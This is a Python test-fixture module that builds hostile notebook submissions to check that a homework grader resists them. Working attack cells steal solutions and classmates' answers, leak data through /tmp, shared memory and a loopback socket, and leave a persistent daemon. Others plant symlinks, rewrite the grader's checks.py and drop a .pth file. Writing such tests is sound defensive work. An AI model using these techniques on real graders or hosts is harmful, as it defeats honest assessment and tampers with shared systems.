"""A class of hostile submissions, one per kind of attack that issue 16 lists, for tests/test_grade_hostile.py.

Each is chapter 1's frozen exercise (or chapter 7's) with its answers filled in or left blank, plus a cell that
attacks. The paths it aims at (the solutions, a classmate, the reports, the grader's code) are only known when the
test runs, so they are handed in as ``targets`` and written into the cell. Nothing here is written to this folder.
"""

from __future__ import annotations

import importlib.util
import json
from dataclasses import dataclass
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
_spec = importlib.util.spec_from_file_location("build_submissions", HERE / "build.py")
build = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(build)

CHAPTER1 = build.NAME
CHAPTER7 = "07-cnn-from-scratch.ipynb"
SHARED = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock")

# Every attack starts with this: the targets, and a way to take a notebook's answers by running its code cells.
PRELUDE = """
import glob, json, os
T = json.loads({targets!r})

def steal(path):
    \"\"\"Run every code cell of the notebook at ``path`` here: a solution's or a classmate's answers become ours.\"\"\"
    with open(path, encoding="utf-8", errors="replace") as handle:
        cells = json.load(handle)["cells"]
    for cell in cells:
        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if cell["cell_type"] == "code" and "check(" not in source:
            try:
                exec(source, globals())
            except Exception:
                pass
    return path
"""

# A blank notebook that takes the answers from the solutions: the folder given to the grader, and the checkout the
# installed package lives in (an editable install's ``solutions/`` beside ``cnnbook/``).
READS_THE_SOLUTIONS = """
import cnnbook
checkout = os.path.dirname(os.path.dirname(cnnbook.__file__))
candidates = [os.path.join(T["source"], T["chapter"]), *glob.glob(os.path.join(checkout, "solutions", "*.ipynb"))]
stolen = []
for path in candidates:
    try:
        stolen.append(steal(path))
    except Exception:
        pass
print("stolen from", stolen)
"""

# A blank notebook that copies the answers of the classmates in the same folder of submissions.
COPIES_A_CLASSMATE = """
stolen = []
for path in glob.glob(os.path.join(T["class"], "hw1-solved", "*.ipynb")):
    try:
        stolen.append(steal(path))
    except Exception:
        pass
print("stolen from", stolen)
"""

# A solved notebook that leaves its answers where the next submission may look (every shared folder, nested too,
# SysV shared memory), logs the hidden tests' inputs, and leaves a daemon that keeps all of it coming back and
# tries to write into the reports and a folder outside.
LEAVES_NOTES = """
import ctypes, signal, time
mine = glob.glob("*.ipynb")[0]
data = open(mine, "rb").read()

def leave_notes():
    for folder in T["shared"]:
        for path in (os.path.join(folder, T["token"] + ".ipynb"), os.path.join(folder, T["token"], "deep", "n.ipynb")):
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "wb") as handle:
                    handle.write(data)
            except OSError:
                pass

leave_notes()
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
shm = libc.shmget(T["key"], len(data) + 8, 0o1000 | 0o666)  # IPC_CREAT
if shm >= 0:
    address = libc.shmat(shm, None, 0)
    if address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memmove(address, len(data).to_bytes(8, "little") + data, len(data) + 8)

_honest = conv_output_size
def conv_output_size(*args, **kwargs):  # every hidden test's input, written down for later
    for folder in T["shared"]:
        try:
            with open(os.path.join(folder, T["token"] + ".inputs"), "a") as handle:
                handle.write(repr((args, kwargs)) + "\\n")
        except OSError:
            pass
    return _honest(*args, **kwargs)

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for signum in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(signum, signal.SIG_IGN)
        with open("/proc/self/comm", "w") as handle:
            handle.write(T["comm"])
        while True:
            leave_notes()
            for folder in (T["reports"], T["outside"]):
                try:
                    with open(os.path.join(folder, "attacker-was-here"), "w") as handle:
                        handle.write("x")
                except OSError:
                    pass
            time.sleep(0.05)
    os._exit(0)
os.wait()
"""

# A blank notebook, graded in a later run: it takes the answers that a previous submission left behind.
READS_WHAT_WAS_LEFT = """
import ctypes
stolen = []
for folder in T["shared"]:
    for path in (os.path.join(folder, T["token"] + ".ipynb"), os.path.join(folder, T["token"], "deep", "n.ipynb")):
        try:
            stolen.append(steal(path))
        except Exception:
            pass
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
shm = libc.shmget(T["key"], 0, 0)
if shm >= 0:
    address = libc.shmat(shm, None, 0o10000)  # SHM_RDONLY
    if address not in (None, ctypes.c_void_p(-1).value):
        size = int.from_bytes(ctypes.string_at(address, 8), "little")
        with open("from-shm.ipynb", "wb") as handle:
            handle.write(ctypes.string_at(address + 8, size))
        stolen.append(steal("from-shm.ipynb"))
print("stolen from", stolen)
"""

# A solved notebook that sends its answers out over the network (the grader's loopback, here a listener of the test).
USES_THE_NETWORK = """
import socket
try:
    with socket.create_connection(("127.0.0.1", T["port"]), timeout=3) as connection:
        connection.sendall(open(glob.glob("*.ipynb")[0], "rb").read()[:1000])
    sent = "sent"
except OSError as error:
    sent = type(error).__name__
print("network:", sent)
"""

# A solved notebook that plants, where other reports go, a link to a folder outside and a folder in a report's place.
PLANTS_REPORT_LINKS = """
planted = []
for name in T["classmates"]:
    for attempt in range(2):
        try:
            if attempt == 0:
                os.symlink(T["outside"], os.path.join(T["reports"], name))
            else:
                os.makedirs(os.path.join(T["reports"], name + "-x", T["chapter"].replace(".ipynb", ".json")))
            planted.append(name)
        except OSError:
            pass
print("planted", planted)
"""

# A blank notebook that rewrites the grader's code (so every later test passes) and plants a .pth file that would
# run at every later start of Python from that checkout.
REWRITES_THE_GRADER = """
done = []
for path, text in (
    (os.path.join(T["checkout"], "cnnbook", "homework", "checks.py"),
     "\\nrun_test = lambda function, student: Outcome(function.__name__, True)\\n"),
    (os.path.join(T["checkout"], "zz-attack.pth"), f"import os; open({T['outside']!r} + '/pth-ran', 'w')\\n"),
):
    try:
        with open(path, "a") as handle:
            handle.write(text)
        done.append(path)
    except OSError as error:
        done.append(type(error).__name__)
print("rewritten:", done)
"""

# Chapter 1 solved, but the first answer returns 50 MB: more than an answer may be (4 MB).
HUGE_ANSWER = """
def conv_output_size(n, k, s=1, p=0):
    return "x" * 50_000_000
"""

# Chapter 7, blank, with every helper its checks once called redefined to give the checked answers.
REDEFINED_HELPERS = """
import numpy as np
GRADIENTS = {
    "sum_of_squares": lambda a, eps: 2 * a,
    "sum_of_cubes": lambda a, eps: 3 * a ** 2 + eps ** 2,
    "weighted_softplus": lambda a, eps: np.arange(1, a.size + 1).reshape(a.shape) / (1 + np.exp(-a)),
    "zero": lambda a, eps: np.zeros_like(a),
}

def numerical_gradient_of(name, x, eps=1e-6):
    x = np.array(x, dtype=float)
    return GRADIENTS[name](x, eps), True

def gradient_check_of(name, x, analytic, eps=1e-6):
    x = np.array(x, dtype=float)
    numeric, analytic = GRADIENTS[name](x, eps), np.asarray(analytic, dtype=float)
    scale = max(np.abs(analytic).max(), np.abs(numeric).max())
    return 0.0 if scale == 0 else float(np.abs(analytic - numeric).max() / scale)
"""


@dataclass(frozen=True)
class Case:
    """One submission of the hostile class: its folder (the student), notebook, what it does and what it earns."""

    student: str
    kind: str  # the heading: wrong scores, leaks, reports, input, memory, non-root
    attack: str
    notebook: object  # an nbformat notebook, raw bytes, or None for a FIFO
    chapter: str = CHAPTER1
    earns: float = 0.0  # what its own honest code earns; no attack may add to it


def _attacking(nb, attack: str, targets: dict):
    nb.cells.append(build.code(PRELUDE.format(targets=json.dumps(targets)) + attack))
    return nb


def with_surrogate() -> bytes:
    """Chapter 1 solved, with a lone surrogate (not UTF-8 encodable) in a comment of its first code cell."""
    text = nbformat.writes(build.solved())
    return text.replace('"import numpy', '"# \\ud800\\nimport numpy', 1).encode()


def first_run(targets: dict) -> list[Case]:
    """The class graded first: controls, and an attack of every kind."""
    chapter7 = nbformat.read(build.FROZEN / "exercises" / CHAPTER7, as_version=4)
    chapter7.cells.append(build.code(REDEFINED_HELPERS))
    return [
        Case("solved", "control", "answers everything", build.solved(), earns=10),
        Case("blank", "control", "answers nothing", build.exercise()),
        Case(
            "reads-the-solutions",
            "wrong scores",
            "reads the solutions: the source folder and the checkout of the installed package",
            _attacking(build.exercise(), READS_THE_SOLUTIONS, targets),
        ),
        Case(
            "copies-a-classmate",
            "wrong scores",
            "copies the answers of a classmate in the same folder",
            _attacking(build.exercise(), COPIES_A_CLASSMATE, targets),
        ),
        Case(
            "redefines-helpers",
            "wrong scores",
            "redefines the helpers chapter 7's checks once called",
            chapter7,
            chapter=CHAPTER7,
        ),
        Case(
            "leaves-notes",
            "leaks",
            "leaves its answers and the hidden tests' inputs in /tmp, /var/tmp, /dev/shm, /run/lock and SysV shared "
            "memory, and a daemon that keeps them coming back",
            _attacking(build.solved(), LEAVES_NOTES, targets),
            earns=10,
        ),
        Case(
            "uses-the-network",
            "leaks",
            "sends its notebook to a listener on the grader's loopback",
            _attacking(build.solved(), USES_THE_NETWORK, targets),
            earns=10,
        ),
        Case(
            "plants-report-links",
            "reports",
            "plants links and folders where the reports go",
            _attacking(build.solved(), PLANTS_REPORT_LINKS, targets),
            earns=10,
        ),
        Case(
            "rewrites-the-grader",
            "non-root",
            "rewrites the grader's code and plants a .pth file in its checkout",
            _attacking(build.exercise(), REWRITES_THE_GRADER, targets),
        ),
        Case('=HYPERLINK("x")', "input", "a folder named like a spreadsheet formula", build.solved(), earns=10),
        Case(
            "new\nline\x1b[2J", "input", "a folder name with a newline and a terminal escape", build.solved(), earns=10
        ),
        Case("not-utf8-\udcff", "input", "a folder name that is not UTF-8", build.solved(), earns=10),
        Case("surrogate", "input", "a lone surrogate in a code cell", with_surrogate(), earns=10),
        Case("fifo", "input", "a FIFO where the notebook should be", None),
        Case(
            "huge-answer",
            "memory",
            "an answer of 50 MB",
            build.replace(build.solved(), "q1", HUGE_ANSWER),
            earns=8,
        ),
    ]


def second_run(targets: dict) -> list[Case]:
    """The class graded next: a notebook that looks for what the first run's submissions left, and the controls
    (graded by a grader the first run's notebooks tried to rewrite)."""
    return [
        Case("solved", "control", "answers everything", build.solved(), earns=10),
        Case("blank", "control", "answers nothing", build.exercise()),
        Case(
            "reads-what-was-left",
            "wrong scores",
            "takes the answers a previous submission left behind",
            _attacking(build.exercise(), READS_WHAT_WAS_LEFT, targets),
        ),
    ]
